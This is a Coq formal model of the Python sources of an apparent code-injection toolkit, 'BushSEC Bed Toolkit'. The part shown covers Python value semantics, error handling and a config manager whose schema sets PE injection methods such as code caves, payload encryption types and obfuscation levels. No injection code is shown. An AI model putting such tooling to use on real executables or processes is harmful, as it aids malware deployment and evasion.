(** * BushSEC Bed Toolkit V0.2.1: a shallow embedding and its verified properties

    The Python sources under [V0.2.1/] are embedded module by module:
    - [Py]: the Python values, dictionaries, exceptions and outcomes the code
      manipulates;
    - [ErrorHandler]: [utils/error_handler.py];
    - [Config]: [config/config_manager.py];
    - [ToolBase]: [core/tool_base.py];
    - [Plugins]: [plugins/plugin_manager.py];
    - [Obfuscator]: [tools/obfuscator.py];
    - [RC4Reference]: the RC4 cipher as the specification words it, to
      compare the obfuscator's routine with;
    - [PEInjector]: [tools/pe_injector.py];
    - [ProcessInjector]: [tools/process_injector.py].
    Further parts of the same files are embedded in modules of their own:
    [ErrorReporting] (the statistics interface of the error handler),
    [ConfigAccess] ([get], [set] and the listeners), [ToolLifecycle]
    ([initialize], [cleanup], [validate_config], [pause], [resume],
    [reset]), [PluginReload] ([reload_plugin]), [ObfuscatorPasses] (the
    encoders, the junk and control-flow passes, the pipeline, [obfuscate]),
    [PELayout] ([_align] and the two section injections) and [ProcessTool]
    (the entry point of the process injector).
    The vocabulary of the statements and the sample inputs follow, then the
    properties with their proofs.

    Conventions.  A Python [dict] keeps insertion order, and the order shows in
    [items()] and in messages built from it, so a dict is an association list
    with one entry per key.  A byte is a [Z] in [0, 256).  A call that may
    raise returns an [outcome]; only instances of [Exception] are modelled
    ([KeyboardInterrupt] and [SystemExit] are not).  Wall-clock fields
    (timestamps, tracebacks) are left out of exceptions and results.

    Three limits of the embedding are made explicit where a statement
    depends on them.  The error handler picks its result builder by the name
    of the exception's class; an exception of a foreign class that bears the
    name of one of the toolkit's four error classes is not represented, and
    [dispatched_by_class] names the exceptions that are.  The recovery of a
    Plugin error that names a plugin reloads that plugin; the reload is not
    embedded, and [asks_reload] names the errors that start one.  Values
    carry no identity, which Python consults when it compares containers;
    [nan_free] names the values on which this makes no difference. *)

From Stdlib Require Import ZArith Lia Bool.
From Stdlib Require Import Floats.SpecFloat.
From stdpp Require Import base option list strings pretty.

#[local] Set Warnings "-register-all".
Open Scope string_scope.
Open Scope Z_scope.
Open Scope list_scope.

(* ===================================================================== *)
(** * Python values *)
(* ===================================================================== *)

Module Py.

(** ** Insertion-ordered dictionaries with string keys *)

Definition pydict (V : Type) : Type := list (string * V).

Fixpoint dict_get {V} (k : string) (d : pydict V) : option V :=
  match d with
  | [] => None
  | (k', v) :: d' => if String.eqb k k' then Some v else dict_get k d'
  end.

Definition dict_mem {V} (k : string) (d : pydict V) : bool :=
  match dict_get k d with Some _ => true | None => false end.

(** [d[k] = v]: an existing key keeps its position, a new key goes last. *)
Fixpoint dict_set {V} (k : string) (v : V) (d : pydict V) : pydict V :=
  match d with
  | [] => [(k, v)]
  | (k', v') :: d' =>
      if String.eqb k k' then (k, v) :: d' else (k', v') :: dict_set k v d'
  end.

(** [del d[k]] for a key that is present (an absent key is left to the caller:
    Python raises [KeyError] there). *)
Fixpoint dict_del {V} (k : string) (d : pydict V) : pydict V :=
  match d with
  | [] => []
  | (k', v') :: d' =>
      if String.eqb k k' then d' else (k', v') :: dict_del k d'
  end.

Definition dict_keys {V} (d : pydict V) : list string := map fst d.

(** ** Values: what [json.load] yields and what the schema literals hold *)

Inductive PyVal : Type :=
| PyNone
| PyBool (b : bool)
| PyInt (n : Z)
| PyFloat (f : spec_float)
| PyStr (s : string)
| PyList (l : list PyVal)
| PyDict (d : list (string * PyVal)).

(** Exact comparison of a float with an integer, as [float.__eq__] does. *)
Definition float_eq_int (f : spec_float) (n : Z) : bool :=
  match f with
  | S754_zero _ => n =? 0
  | S754_finite s m e =>
      let sm := if s then - Z.pos m else Z.pos m in
      if 0 <=? e then n =? sm * 2 ^ e
      else ((Z.pos m) mod (2 ^ (- e)) =? 0) && (n =? sm / 2 ^ (- e))
  | _ => false
  end.

(** [a == b]. [True == 1], [1 == 1.0]; dictionaries compare without order. *)
Fixpoint py_eq (a b : PyVal) {struct a} : bool :=
  match a, b with
  | PyNone, PyNone => true
  | PyBool x, PyBool y => Bool.eqb x y
  | PyBool x, PyInt n => Z.b2z x =? n
  | PyInt n, PyBool x => n =? Z.b2z x
  | PyBool x, PyFloat f => float_eq_int f (Z.b2z x)
  | PyFloat f, PyBool x => float_eq_int f (Z.b2z x)
  | PyInt n, PyInt m => n =? m
  | PyInt n, PyFloat f => float_eq_int f n
  | PyFloat f, PyInt n => float_eq_int f n
  | PyFloat f, PyFloat g => SFeqb f g
  | PyStr s, PyStr t => String.eqb s t
  | PyList l, PyList m =>
      (fix go (l m : list PyVal) {struct l} : bool :=
         match l, m with
         | [], [] => true
         | x :: l', y :: m' => py_eq x y && go l' m'
         | _, _ => false
         end) l m
  | PyDict d, PyDict e =>
      (length d =? length e)%nat &&
      (fix go (d : list (string * PyVal)) : bool :=
         match d with
         | [] => true
         | (k, v) :: d' =>
             match dict_get k e with
             | Some w => py_eq v w
             | None => false
             end && go d'
         end) d
  | _, _ => false
  end.

(** Python compares the elements of two lists or dictionaries by identity
    before it compares them with [==], and values here carry no identity.
    The two agree on every value except a NaN, which differs from itself:
    [py_eq] is the comparison of the code on values that hold no NaN. *)
Fixpoint nan_free (v : PyVal) : bool :=
  match v with
  | PyFloat S754_nan => false
  | PyList l => forallb nan_free l
  | PyDict d => forallb (λ kv, nan_free (snd kv)) d
  | _ => true
  end.

(** Truth value of an object ([if x:], [not x]). *)
Definition truthy (v : PyVal) : bool :=
  match v with
  | PyNone => false
  | PyBool b => b
  | PyInt n => negb (n =? 0)
  | PyFloat f => match f with S754_zero _ => false | _ => true end
  | PyStr s => negb (String.eqb s "")
  | PyList l => match l with [] => false | _ => true end
  | PyDict d => match d with [] => false | _ => true end
  end.

(** [needle in hay] on strings. *)
Fixpoint str_contains (needle hay : string) : bool :=
  String.prefix needle hay ||
  match hay with
  | EmptyString => false
  | String _ hay' => str_contains needle hay'
  end.

(** [sep.join(l)]. *)
Fixpoint str_join (sep : string) (l : list string) : string :=
  match l with
  | [] => ""
  | [s] => s
  | s :: l' => s +:+ sep +:+ str_join sep l'
  end.

(** [repr(v)], as f-strings print a list of allowed values.  Strings are
    quoted without escapes and a float is shown by a placeholder: the schemas of
    this code base list plain strings only. *)
Fixpoint py_repr (v : PyVal) : string :=
  match v with
  | PyNone => "None"
  | PyBool b => if b then "True" else "False"
  | PyInt n => pretty n
  | PyFloat _ => "<float>"
  | PyStr s => "'" +:+ s +:+ "'"
  | PyList l =>
      "[" +:+ str_join ", " ((fix go (l : list PyVal) : list string :=
                                match l with
                                | [] => []
                                | x :: l' => py_repr x :: go l'
                                end) l) +:+ "]"
  | PyDict d =>
      "{" +:+ str_join ", " ((fix go (d : list (string * PyVal)) : list string :=
                                match d with
                                | [] => []
                                | (k, x) :: d' =>
                                    ("'" +:+ k +:+ "': " +:+ py_repr x) :: go d'
                                end) d) +:+ "}"
  end.

(** ** Sequence indexing and slicing *)

(** The position a slice bound denotes: a negative bound counts from the
    end, and the result is clipped to the sequence. *)
Definition clip (n : nat) (i : Z) : nat :=
  Z.to_nat (if i <? 0 then Z.max (i + Z.of_nat n) 0 else Z.min i (Z.of_nat n)).

(** [l[start:]] and [l[:stop]]. *)
Definition slice_from {A} (start : Z) (l : list A) : list A :=
  drop (clip (length l) start) l.
Definition slice_to {A} (stop : Z) (l : list A) : list A :=
  take (clip (length l) stop) l.

(** [len(l)] as an integer. *)
Definition len {A} (l : list A) : Z := Z.of_nat (length l).

(** The index [l[i]] denotes, when there is one: a negative index counts
    from the end. *)
Definition index_of (n : Z) (i : Z) : option nat :=
  let i' := if i <? 0 then i + n else i in
  if (0 <=? i') && (i' <? n) then Some (Z.to_nat i') else None.

(** [enumerate(l)]. *)
Definition enumerate {A} (l : list A) : list (Z * A) :=
  zip (seqZ 0 (len l)) l.

(** ** Exceptions *)

(** The class of an exception object.  The four subclasses of the toolkit's
    [BedToolsError] fix the error code, severity and category of their
    instances; the base class takes them as constructor arguments, and
    [BedToolsError code severity category] is an instance of the base class
    built with these.  [OtherException cls] is a class outside the toolkit's
    hierarchy, and [cls], its name, is none of [ValidationError],
    [SecurityError], [PluginError], [OperationError]: an object of a foreign
    class with one of these names would be handed to the handler registered
    under that name, which reads attributes only the toolkit's errors have
    (see [dispatched_by_class] below). *)
Inductive ExcClass : Type :=
| ValidationError
| SecurityError
| PluginError
| OperationError
| BedToolsError (error_code severity category : string)
| KeyError
| TypeError
| AttributeError
| ValueError
| OverflowError
| IndexError
| ZeroDivisionError
| OSError
| OtherException (cls : string).

Record PyExc : Type := MkExc {
  exc_class : ExcClass;
  exc_msg : string;                  (* [str(e)] *)
  exc_details : pydict PyVal         (* [e.details] of a BedToolsError *)
}.

Definition raise_exc (c : ExcClass) (msg : string) : PyExc := MkExc c msg [].

Inductive outcome (A : Type) : Type :=
| Returned (a : A)
| Raised (e : PyExc).
Arguments Returned {A} a.
Arguments Raised {A} e.

(** The error monad of [outcome], with stdpp's [x ← m; k] and [m ;; k]. *)
#[export] Instance outcome_ret : MRet outcome := @Returned.
#[export] Instance outcome_bind : MBind outcome := λ A B k m,
  match m with
  | Returned a => k a
  | Raised e => Raised e
  end.

Definition class_name (c : ExcClass) : string :=
  match c with
  | ValidationError => "ValidationError"
  | SecurityError => "SecurityError"
  | PluginError => "PluginError"
  | OperationError => "OperationError"
  | BedToolsError _ _ _ => "BedToolsError"
  | KeyError => "KeyError"
  | TypeError => "TypeError"
  | AttributeError => "AttributeError"
  | ValueError => "ValueError"
  | OverflowError => "OverflowError"
  | IndexError => "IndexError"
  | ZeroDivisionError => "ZeroDivisionError"
  | OSError => "OSError"
  | OtherException cls => cls
  end.

Definition is_BedToolsError (c : ExcClass) : bool :=
  match c with
  | ValidationError | SecurityError | PluginError | OperationError
  | BedToolsError _ _ _ => true
  | _ => false
  end.

(** A [for] loop whose body may raise. *)
Fixpoint foldM {S A} (body : S -> A -> outcome S) (l : list A) (s : S)
    : outcome S :=
  match l with
  | [] => Returned s
  | x :: l' => s' ← body s x; foldM body l' s'
  end.

(** [l[i]] and [l[i] = x] on a list, [a % b] on integers. *)
Definition list_getitem {A} (l : list A) (i : Z) : outcome A :=
  match index_of (len l) i ≫= (l !!.) with
  | Some x => Returned x
  | None => Raised (raise_exc IndexError "list index out of range")
  end.

Definition list_setitem {A} (l : list A) (i : Z) (x : A) : outcome (list A) :=
  match index_of (len l) i with
  | Some k => Returned (<[k:=x]> l)
  | None => Raised (raise_exc IndexError "list assignment index out of range")
  end.

Definition py_mod (a b : Z) : outcome Z :=
  if b =? 0 then Raised (raise_exc ZeroDivisionError "integer modulo by zero")
  else Returned (a mod b).

(** Bytes: [bytes(iterable)] and [bytearray.append] refuse a value outside
    [range(256)]. *)
Definition is_byte (b : Z) : bool := (0 <=? b) && (b <? 256).

Definition bytes_of (l : list Z) : outcome (list Z) :=
  if forallb is_byte l then Returned l
  else Raised (raise_exc ValueError "bytes must be in range(0, 256)").

Definition bytearray_append (r : list Z) (x : Z) : outcome (list Z) :=
  if is_byte x then Returned (r ++ [x])
  else Raised (raise_exc ValueError "byte must be in range(0, 256)").

(** ** Container protocol on values *)

Definition type_name (v : PyVal) : string :=
  match v with
  | PyNone => "NoneType"
  | PyBool _ => "bool"
  | PyInt _ => "int"
  | PyFloat _ => "float"
  | PyStr _ => "str"
  | PyList _ => "list"
  | PyDict _ => "dict"
  end.

Definition hashable (v : PyVal) : bool :=
  match v with
  | PyList _ | PyDict _ => false
  | _ => true
  end.

(** [item in container]. *)
Definition py_contains (item container : PyVal) : outcome bool :=
  match container with
  | PyDict d =>
      if hashable item then
        Returned (match item with PyStr k => dict_mem k d | _ => false end)
      else Raised (raise_exc TypeError ("unhashable type: '" +:+ type_name item +:+ "'"))
  | PyList l => Returned (existsb (fun x => py_eq item x) l)
  | PyStr s =>
      match item with
      | PyStr k => Returned (str_contains k s)
      | _ => Raised (raise_exc TypeError
               ("'in <string>' requires string as left operand, not " +:+ type_name item))
      end
  | _ => Raised (raise_exc TypeError
           ("argument of type '" +:+ type_name container +:+ "' is not iterable"))
  end.

(** [container[key]] for a string key. *)
Definition py_getitem (container : PyVal) (k : string) : outcome PyVal :=
  match container with
  | PyDict d =>
      match dict_get k d with
      | Some v => Returned v
      | None => Raised (raise_exc KeyError ("'" +:+ k +:+ "'"))
      end
  | PyList _ =>
      Raised (raise_exc TypeError "list indices must be integers or slices, not str")
  | PyStr _ =>
      Raised (raise_exc TypeError "string indices must be integers, not 'str'")
  | _ => Raised (raise_exc TypeError
           ("'" +:+ type_name container +:+ "' object is not subscriptable"))
  end.

(** [obj.get(key, default)]: only a dict has the method. *)
Definition py_get (obj : PyVal) (k : string) (default : PyVal) : outcome PyVal :=
  match obj with
  | PyDict d => Returned (match dict_get k d with Some v => v | None => default end)
  | _ => Raised (raise_exc AttributeError
           ("'" +:+ type_name obj +:+ "' object has no attribute 'get'"))
  end.

(** [obj.items()]. *)
Definition py_items (obj : PyVal) : outcome (list (string * PyVal)) :=
  match obj with
  | PyDict d => Returned d
  | _ => Raised (raise_exc AttributeError
           ("'" +:+ type_name obj +:+ "' object has no attribute 'items'"))
  end.

End Py.

(* ===================================================================== *)
(** * utils/logger.py and utils/error_handler.py *)
(* ===================================================================== *)

Module ErrorHandler.
Import Py.

(** ** The log sink ([Logger]): what each logging call records *)

Inductive LogEntry : Type :=
| LogOperation (operation : string) (status : bool) (details : option string)
| LogSecurity (event_type description severity : string)
| LogError (error : PyExc) (context : option string)
| LogPlugin (plugin_name action : string) (status : bool) (details : option string).

(** ** Error taxonomy: the attributes [error_code], [severity] and
    [category] of an instance, as its constructor set them *)

Definition error_code (c : ExcClass) : string :=
  match c with
  | ValidationError => "ERR_VALIDATION"
  | SecurityError => "ERR_SECURITY"
  | PluginError => "ERR_PLUGIN"
  | OperationError => "ERR_OPERATION"
  | BedToolsError code _ _ => code
  | _ => "ERR_UNKNOWN"
  end.

Definition severity (c : ExcClass) : string :=
  match c with
  | ValidationError => "WARNING"
  | SecurityError => "CRITICAL"
  | BedToolsError _ severity _ => severity
  | _ => "ERROR"
  end.

Definition category (c : ExcClass) : string :=
  match c with
  | ValidationError => "VALIDATION"
  | SecurityError => "SECURITY"
  | PluginError => "PLUGIN"
  | OperationError => "BUSINESS"
  | BedToolsError _ _ category => category
  | _ => "SYSTEM"
  end.

(** ** ErrorStats *)

(** One entry of [error_history] (timestamp and traceback left out). *)
Record ErrorInfo : Type := MkErrorInfo {
  info_error_code : string;
  info_severity : string;
  info_category : string;
  info_message : string;
  info_details : pydict PyVal
}.

Record ErrorStats : Type := MkErrorStats {
  total_errors : Z;
  errors_by_code : pydict Z;
  errors_by_severity : pydict Z;
  errors_by_category : pydict Z;
  error_history : list ErrorInfo
}.

Definition ErrorStats_init : ErrorStats := MkErrorStats 0 [] [] [] [].

Definition count_up (k : string) (d : pydict Z) : pydict Z :=
  dict_set k (default 0 (dict_get k d) + 1) d.

Definition record_error (error : PyExc) (st : ErrorStats) : ErrorStats :=
  let c := exc_class error in
  let error_info :=
    MkErrorInfo (error_code c) (severity c) (category c)
                (exc_msg error) (exc_details error) in
  let history := error_history st ++ [error_info] in
  MkErrorStats
    (total_errors st + 1)
    (count_up (error_code c) (errors_by_code st))
    (count_up (severity c) (errors_by_severity st))
    (count_up (category c) (errors_by_category st))
    (if (1000 <? Z.of_nat (length history)) then slice_from (-1000) history
     else history).

(** [return self.error_history[-limit:]] *)
Definition get_recent_errors (st : ErrorStats) (limit : Z) : list ErrorInfo :=
  slice_from (- limit) (error_history st).

(** ** The process-wide singletons: ErrorHandler and Logger *)

Record Runtime : Type := MkRuntime {
  error_stats : ErrorStats;
  log : list LogEntry;
  (** The plugins the Plugin recovery handler handed to
      [PluginManager().reload_plugin].  The reload itself (it unloads and
      imports a module, and its own decorated calls report to this same
      handler) is not part of the embedding: the statistics and the log of a
      runtime are exact up to the first request noted here. *)
  reload_requests : list PyVal
}.

Definition Runtime_init : Runtime := MkRuntime ErrorStats_init [] [].

Definition emit (e : LogEntry) (rt : Runtime) : Runtime :=
  MkRuntime (error_stats rt) (log rt ++ [e]) (reload_requests rt).

(** [ErrorRecoveryStrategy.try_recover] with the two handlers that
    [_register_default_recovery_handlers] installs, looked up by the error
    code of the instance: a no-op under [ERR_VALIDATION],
    [_try_reload_plugin] under [ERR_PLUGIN] (which swallows its own
    failures, so that both count as recovered). *)
Definition try_recover (error : PyExc) (rt : Runtime) : Runtime * bool :=
  let code := error_code (exc_class error) in
  if String.eqb code "ERR_VALIDATION" then (rt, true)
  else if String.eqb code "ERR_PLUGIN" then
    match dict_get "plugin_name" (exc_details error) with
    | Some plugin_name =>
        if truthy plugin_name
        then (MkRuntime (error_stats rt) (log rt)
                        (reload_requests rt ++ [plugin_name]), true)
        else (rt, true)
    | None => (rt, true)
    end
  else (rt, false).

Definition structured (c : ExcClass) (code ty : string) (error : PyExc) : PyVal :=
  PyDict [("status", PyStr "error");
          ("error_code", PyStr code);
          ("message", PyStr (exc_msg error));
          ("type", PyStr ty);
          ("severity", PyStr (severity c));
          ("category", PyStr (category c));
          ("details", PyDict (exc_details error))].

Definition opt_str (s : option string) : string := default "" s.

Definition _handle_validation_error (error : PyExc) (context : option string)
    (rt : Runtime) : Runtime * PyVal :=
  (emit (LogError error (Some ("验证错误 - " +:+ opt_str context))) rt,
   structured (exc_class error) (error_code (exc_class error)) "validation" error).

Definition _handle_security_error (error : PyExc) (context : option string)
    (rt : Runtime) : Runtime * PyVal :=
  (emit (LogSecurity "ERROR" (exc_msg error) "CRITICAL") rt,
   structured (exc_class error) (error_code (exc_class error)) "security" error).

Definition _handle_plugin_error (error : PyExc) (context : option string)
    (rt : Runtime) : Runtime * PyVal :=
  (emit (LogPlugin "Unknown" "error" false (Some (exc_msg error))) rt,
   structured (exc_class error) (error_code (exc_class error)) "plugin" error).

Definition _handle_operation_error (error : PyExc) (context : option string)
    (rt : Runtime) : Runtime * PyVal :=
  (emit (LogOperation "Unknown" false (Some (exc_msg error))) rt,
   structured (exc_class error) (error_code (exc_class error)) "operation" error).

Definition _handle_default_error (error : PyExc) (context : option string)
    (rt : Runtime) : Runtime * PyVal :=
  (emit (LogError error context) rt,
   PyDict [("status", PyStr "error");
           ("error_code", PyStr "ERR_UNKNOWN");
           ("message", PyStr (exc_msg error));
           ("type", PyStr "unknown");
           ("severity", PyStr "ERROR");
           ("category", PyStr "SYSTEM");
           ("context", match context with Some c => PyStr c | None => PyNone end)]).

(** [handle_error].  The statistics and the recovery concern the toolkit's
    errors only; the handler that builds the result is looked up under the
    name of the exception's class.  By the convention on [OtherException] a
    class outside the toolkit has none of the registered names, so that the
    look-up by name is a case distinction on the class. *)
Definition handle_error (error : PyExc) (context : option string)
    (rt : Runtime) : Runtime * PyVal :=
  let rt1 :=
    if is_BedToolsError (exc_class error) then
      let rt' := MkRuntime (record_error error (error_stats rt))
                           (log rt) (reload_requests rt) in
      let '(rt'', recovered) := try_recover error rt' in
      if recovered
      then emit (LogOperation "error_recovery" true
                   (Some ("成功恢复错误: " +:+ error_code (exc_class error)))) rt''
      else rt''
    else rt in
  (* the handler registered under the name of the class, else the default
     one *)
  match exc_class error with
  | ValidationError => _handle_validation_error error context rt1
  | SecurityError => _handle_security_error error context rt1
  | PluginError => _handle_plugin_error error context rt1
  | OperationError => _handle_operation_error error context rt1
  | _ => _handle_default_error error context rt1
  end.

(** The names [_register_default_handlers] registers a handler under. *)
Definition registered_names : list string :=
  ["ValidationError"; "SecurityError"; "PluginError"; "OperationError"].

(** The exceptions [handle_error] is embedded for: the toolkit's own errors,
    and those of other classes that no handler is registered for by name. *)
Definition dispatched_by_class (e : PyExc) : bool :=
  is_BedToolsError (exc_class e)
  || negb (existsb (String.eqb (class_name (exc_class e))) registered_names).

(** The errors whose recovery hands a plugin to the plugin manager: the
    error code is [ERR_PLUGIN] and [details] names a plugin. *)
Definition asks_reload (e : PyExc) : bool :=
  is_BedToolsError (exc_class e)
  && String.eqb (error_code (exc_class e)) "ERR_PLUGIN"
  && match dict_get "plugin_name" (exc_details e) with
     | Some plugin_name => truthy plugin_name
     | None => false
     end.

(** The decorator [@error_handler]: whatever the wrapped function raises is
    handed to [handle_error] and the structured result is returned instead. *)
Definition error_handler (func_name : string)
    (r : outcome PyVal) (rt : Runtime) : Runtime * outcome PyVal :=
  match r with
  | Returned v => (rt, Returned v)
  | Raised e =>
      let '(rt', d) := handle_error e (Some func_name) rt in
      (rt', Returned d)
  end.

End ErrorHandler.

(* ===================================================================== *)
(** * config/config_manager.py *)
(* ===================================================================== *)

Module Config.
Import Py ErrorHandler.

(** ** ConfigValidator *)

(** [isinstance(value, type_map.get(expected_type, object))] for a string
    [expected_type]; [bool] is a subclass of [int]. *)
Definition isinstance_by_name (value : PyVal) (expected_type : string) : bool :=
  if String.eqb expected_type "str" then
    match value with PyStr _ => true | _ => false end
  else if String.eqb expected_type "int" then
    match value with PyInt _ | PyBool _ => true | _ => false end
  else if String.eqb expected_type "float" then
    match value with PyFloat _ => true | _ => false end
  else if String.eqb expected_type "bool" then
    match value with PyBool _ => true | _ => false end
  else if String.eqb expected_type "list" then
    match value with PyList _ => true | _ => false end
  else if String.eqb expected_type "dict" then
    match value with PyDict _ => true | _ => false end
  else true.

(** The type check shared by [ConfigValidator._validate_type] and
    [ToolBase._validate_type]; they differ in the class they raise. *)
Definition validate_type_with (cls : ExcClass)
    (value expected_type : PyVal) (key : string) : outcome unit :=
  match expected_type with
  | PyStr t =>
      if isinstance_by_name value t then Returned tt
      else Raised (raise_exc cls ("配置项 " +:+ key +:+ " 类型错误，期望 " +:+ t))
  | PyList _ | PyDict _ =>
      Raised (raise_exc TypeError
                ("unhashable type: '" +:+ type_name expected_type +:+ "'"))
  | _ => Returned tt      (* not a key of type_map: checked against [object] *)
  end.


Definition validate_values_with (cls : ExcClass)
    (value valid_values : PyVal) (key : string) : outcome unit :=
  found ← py_contains value valid_values;
  if found : bool then Returned tt
  else Raised (raise_exc cls
         ("配置项 " +:+ key +:+ " 的值必须是以下之一: " +:+ py_repr valid_values)).

Definition _validate_type := validate_type_with ValidationError.
Definition _validate_values := validate_values_with ValidationError.

Definition is_dict (v : PyVal) : bool :=
  match v with PyDict _ => true | _ => false end.

(** [_validate_dict(config, schema)].  The recursion descends into
    [value_schema["schema"]]; the inner [find_schema] is the dictionary lookup
    of that key, written out so that the recursion is structural. *)
Fixpoint _validate_dict (config schema : PyVal) {struct schema} : outcome unit :=
  match schema with
  | PyDict items =>
      (fix loop (items : list (string * PyVal)) : outcome unit :=
         match items with
         | [] => Returned tt
         | (key, value_schema) :: rest =>
             present ← py_contains (PyStr key) config;
             (if negb present then
                (* a missing key: an error unless marked not required *)
                match value_schema with
                | PyDict vs =>
                    if truthy (default (PyBool true) (dict_get "required" vs))
                    then Raised (raise_exc ValidationError
                                   ("缺少必需的配置项: " +:+ key))
                    else Returned tt
                | _ => Returned tt
                end
              else
                value ← py_getitem config key;
                match value_schema with
                | PyDict vs =>
                    match dict_get "type" vs with
                    | Some t => _validate_type value t key
                    | None => Returned tt
                    end;;
                    match dict_get "values" vs with
                    | Some vals => _validate_values value vals key
                    | None => Returned tt
                    end;;
                    (fix find_schema (vs' : list (string * PyVal)) : outcome unit :=
                       match vs' with
                       | [] => Returned tt
                       | (k, sub) :: vs'' =>
                           if String.eqb "schema" k then _validate_dict value sub
                           else find_schema vs''
                       end) vs
                | _ => _validate_type value value_schema key
                end);;
             loop rest
         end) items
  | _ => Raised (raise_exc AttributeError
           ("'" +:+ type_name schema +:+ "' object has no attribute 'items'"))
  end.

(** [ConfigValidator.validate]: only a ValidationError becomes [False]. *)
Definition validate (schema config : PyVal) : outcome bool :=
  match _validate_dict config schema with
  | Returned _ => Returned true
  | Raised e =>
      match exc_class e with
      | ValidationError => Returned false
      | _ => Raised e
      end
  end.

(** ** ConfigManager *)

Definition version : string := "1.0.0".

Definition typed (t : string) : PyVal := PyDict [("type", PyStr t)].
Definition enum (vals : list string) : PyVal :=
  PyDict [("type", PyStr "str"); ("values", PyList (map PyStr vals))].
Definition section (entries : list (string * PyVal)) : PyVal :=
  PyDict [("type", PyStr "dict"); ("schema", PyDict entries)].

Definition _get_config_schema : PyVal :=
  PyDict [
    ("ui", section [
       ("theme", enum ["dark"; "light"]);
       ("language", enum ["zh_CN"; "en_US"]);
       ("window_size", section [("width", typed "int"); ("height", typed "int")])]);
    ("injection", section [
       ("default_method", enum ["new_section"; "code_cave"; "existing_section"]);
       ("encryption_type", enum ["xor"; "custom_xor"; "rc4"; "aes"]);
       ("obfuscation_level", enum ["low"; "medium"; "high"; "extreme"])]);
    ("process", section [
       ("refresh_interval", typed "int");
       ("show_system_processes", typed "bool")]);
    ("security", section [
       ("backup_files", typed "bool");
       ("verify_signatures", typed "bool");
       ("log_operations", typed "bool")]);
    ("plugins", section [
       ("enabled", typed "list");
       ("auto_update", typed "bool")])].

Definition default_items : list (string * PyVal) :=
  [ ("ui", PyDict [
       ("theme", PyStr "dark");
       ("language", PyStr "zh_CN");
       ("window_size", PyDict [("width", PyInt 1200); ("height", PyInt 800)])]);
    ("injection", PyDict [
       ("default_method", PyStr "new_section");
       ("encryption_type", PyStr "xor");
       ("obfuscation_level", PyStr "medium")]);
    ("process", PyDict [
       ("refresh_interval", PyInt 5);
       ("show_system_processes", PyBool false)]);
    ("security", PyDict [
       ("backup_files", PyBool true);
       ("verify_signatures", PyBool true);
       ("log_operations", PyBool true)]);
    ("plugins", PyDict [
       ("enabled", PyList []);
       ("auto_update", PyBool true)]) ].

Definition _get_default_config : PyVal := PyDict default_items.

(** The settings file: absent; present but not to be read, [open] or
    [json.load] raising [e] (no permission, not UTF-8, not JSON, cut short);
    or holding a JSON value. *)
Inductive SettingsFile : Type :=
| NoFile
| Unreadable (e : PyExc)
| Json (v : PyVal).

(** What the file system does at one call of [save_config].  [makedirs] and
    [open(path, 'w')] return or raise; so does [dump], which stands for
    [json.dump] and the closing of the file and may depend on the value
    (with [ensure_ascii=False] a string that cannot be encoded makes the
    write raise).  The file is empty once opened, so after a failing [dump]
    it holds the beginning of a JSON text at most: [leftover] is what reading
    it raises then. *)
Record Disk : Type := MkDisk {
  makedirs : outcome unit;
  open_w : outcome unit;
  dump : PyVal -> outcome unit;
  leftover : PyExc
}.

(** The fields of the singleton that loading and saving touch. *)
Record ConfigManager : Type := MkConfigManager {
  config : PyVal;
  settings_file : SettingsFile
}.

Definition _validate_version (v : PyVal) : bool := py_eq v (PyStr version).

Definition migrate_step (new_config : list (string * PyVal))
    (item : string * PyVal) : list (string * PyVal) :=
  let '(key, value) := item in
  if dict_mem key new_config && negb (String.prefix "_" key)
  then dict_set key value new_config
  else new_config.

Definition _migrate_config (old_config : PyVal) : outcome PyVal :=
  items ← py_items old_config;
  Returned (PyDict (fold_left migrate_step items default_items)).

(** [with open(path, 'w') as f: json.dump(value, f)] on the file [f]. *)
Definition write_settings (disk : Disk) (value : PyVal) (f : SettingsFile)
    : SettingsFile * outcome unit :=
  match open_w disk with
  | Raised e => (f, Raised e)
  | Returned _ =>
      match dump disk value with
      | Returned _ => (Json value, Returned tt)
      | Raised e => (Unreadable (leftover disk), Raised e)
      end
  end.

(** The body of [save_config]: make the directory, copy, stamp the version,
    write. *)
Definition save_config_body (disk : Disk) (cm : ConfigManager)
    : ConfigManager * outcome PyVal :=
  match makedirs disk with
  | Raised e => (cm, Raised e)
  | Returned _ =>
      match config cm with
      | PyDict d =>
          let config_to_save := PyDict (dict_set "_version" (PyStr version) d) in
          let '(f, r) := write_settings disk config_to_save (settings_file cm) in
          (MkConfigManager (config cm) f,
           match r with
           | Returned _ => Returned PyNone
           | Raised e => Raised e
           end)
      | PyList _ =>
          (cm, Raised (raise_exc TypeError
                         "list indices must be integers or slices, not str"))
      | other =>
          (cm, Raised (raise_exc AttributeError
                         ("'" +:+ type_name other
                          +:+ "' object has no attribute 'copy'")))
      end
  end.

Definition save_config (disk : Disk) (cm : ConfigManager) (rt : Runtime)
    : ConfigManager * Runtime * outcome PyVal :=
  let '(cm', r) := save_config_body disk cm in
  let '(rt', r') := error_handler "save_config" r rt in
  (cm', rt', r').

(** The [try] block of [load_config], up to the assignment of [self.config]. *)
Definition read_config (f : SettingsFile) : outcome PyVal :=
  match f with
  | Json loaded_config =>
      v ← py_get loaded_config "_version" (PyStr "0.0.0");
      if _validate_version v then Returned loaded_config
      else _migrate_config loaded_config
  | Unreadable e => Raised e
  | NoFile => Returned _get_default_config
  end.

(** The body of [load_config].  What the decorated [save_config] returns is
    dropped: a write that fails is reported by the error handler and does
    not make the load fail. *)
Definition load_config_body (disk : Disk) (cm : ConfigManager) (rt : Runtime)
    : ConfigManager * Runtime * outcome PyVal :=
  let failed (rt : Runtime) (e : PyExc) :=
    (MkConfigManager _get_default_config (settings_file cm), rt, Raised e) in
  match read_config (settings_file cm) with
  | Raised e => failed rt e
  | Returned c =>
      let cm1 := MkConfigManager c (settings_file cm) in
      match validate _get_config_schema c with
      | Raised e => failed rt e
      | Returned false => failed rt (raise_exc ValidationError "配置验证失败")
      | Returned true =>
          let '(cm2, rt2, _) := save_config disk cm1 rt in
          (cm2, rt2, Returned PyNone)
      end
  end.

Definition load_config (disk : Disk) (cm : ConfigManager) (rt : Runtime)
    : ConfigManager * Runtime * outcome PyVal :=
  let '(cm', rt', r) := load_config_body disk cm rt in
  let '(rt'', r') := error_handler "load_config" r rt' in
  (cm', rt'', r').

End Config.

(* ===================================================================== *)
(** * core/tool_base.py *)
(* ===================================================================== *)

Module ToolBase.
Import Py ErrorHandler.

Inductive ToolStatus : Type :=
| UNINITIALIZED
| INITIALIZING
| READY
| RUNNING
| PAUSED
| ERROR
| CLEANING
| CLEANED.

Definition is_ready (s : ToolStatus) : bool :=
  match s with READY => true | _ => false end.

